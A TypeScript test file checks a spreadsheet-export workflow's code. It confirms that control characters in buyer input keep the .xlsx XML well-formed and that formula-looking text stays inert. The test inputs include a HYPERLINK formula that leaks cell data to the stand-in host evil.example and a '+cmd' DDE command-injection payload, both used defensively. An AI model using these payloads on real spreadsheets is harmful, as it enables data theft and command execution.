import { readFileSync } from 'node:fs';
import { join } from 'node:path';

import { DateTime } from 'luxon';

/**
 * Attack on the spreadsheet examples' "Sheet With Dates" Code node (the same code in
 * sales-and-refunds-to-spreadsheet.json and its no-disk twin), run exactly as the repo's own
 * test/examples/spreadsheet.test.ts runs it.
 *
 * Invariant: whatever a buyer typed (the widget's email) or an organiser named an event, every
 * XML part of the .xlsx is well-formed XML 1.0, so the whole file opens. One buyer's input must
 * not make the whole hourly export unreadable.
 */
const examples = join(__dirname, '..', '..', 'examples');
const codeOf = (file: string) =>
	String(
		(JSON.parse(readFileSync(join(examples, file), 'utf8')).nodes as any[]).find(
			(n) => n.name === 'Sheet With Dates',
		).parameters.jsCode,
	);

function sheet(file: string, rows: Array<Record<string, unknown>>, zone = 'Europe/Prague') {
	const run = new Function('$input', '$now', 'DateTime', 'Buffer', codeOf(file)) as any;
	const [out] = run(
		{ all: () => rows.map((json) => ({ json })) },
		DateTime.now().setZone(zone),
		DateTime,
		Buffer,
	);
	return Object.values(out.binary as Record<string, { data: string; fileName: string }>).map(
		(p) => ({
			fileName: p.fileName,
			xml: Buffer.from(p.data, 'base64').toString('utf8'),
		}),
	);
}

/**
 * XML 1.0 Char production: #x9 | #xA | #xD | [#x20-#xD7FF] | [#xE000-#xFFFD] |
 * [#x10000-#x10FFFF].
 */
const notXmlChars = (text: string) =>
	[...text]
		.map((c) => c.codePointAt(0)!)
		.filter(
			(cp) =>
				!(
					cp === 0x9 ||
					cp === 0xa ||
					cp === 0xd ||
					(cp >= 0x20 && cp <= 0xd7ff) ||
					(cp >= 0xe000 && cp <= 0xfffd) ||
					(cp >= 0x10000 && cp <= 0x10ffff)
				),
		)
		.map((cp) => `U+${cp.toString(16).toUpperCase()}`);

const sale = (over: Record<string, unknown>) => ({
	key: 'sale:widget:1001',
	type: 'sale',
	channel: 'widget',
	orderId: '1001',
	eventPointId: '7',
	eventName: 'Rock Night',
	at: '2026-11-27T12:00:00.000Z',
	email: 'buyer@example.com',
	tickets: 2,
	amount: 70,
	currency: 'EUR',
	...over,
});

describe.each([
	'sales-and-refunds-to-spreadsheet.json',
	'sales-and-refunds-to-spreadsheet-no-disk.json',
])('%s: Sheet With Dates', (file) => {
	it.each([
		['a buyer email holding U+FFFE', { email: 'evil\uFFFE@example.com' }],
		['a buyer email holding U+FFFF', { email: 'x\uFFFF@example.com' }],
		['an event name holding U+FFFE', { eventName: 'Show \uFFFE' }],
	])('%s: every part stays well-formed XML 1.0 (the file opens)', (_, over) => {
		const parts = sheet(file, [sale({}), sale(over), sale({ orderId: '1003' })]);
		const bad = parts
			.map((p) => [p.fileName, notXmlChars(p.xml)])
			.filter(([, chars]) => chars.length);
		expect(bad).toEqual([]);
	});

	it('formula-looking text (=HYPERLINK, +, -, @) is an inline string, never a formula', () => {
		const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
		const parts = sheet(file, [sale({ email: evil, eventName: '+cmd|" /C calc"!A0' })]);
		const xml = parts.find((p) => p.fileName === 'xl/worksheets/sheet1.xml')!.xml;
		expect(xml).not.toMatch(/<f>/);
		expect(xml).toContain('t="inlineStr"><is><t xml:space="preserve">=HYPERLINK(');
	});
});
